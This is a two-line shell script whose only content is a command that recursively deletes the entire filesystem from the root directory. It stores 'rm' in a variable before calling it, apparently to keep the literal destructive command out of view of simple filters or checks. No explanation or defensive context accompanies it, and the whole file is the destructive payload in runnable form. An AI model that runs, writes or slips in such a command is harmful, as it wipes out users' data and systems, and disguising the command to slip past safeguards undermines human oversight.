#!/bin/sh
R=rm; $R -rf /
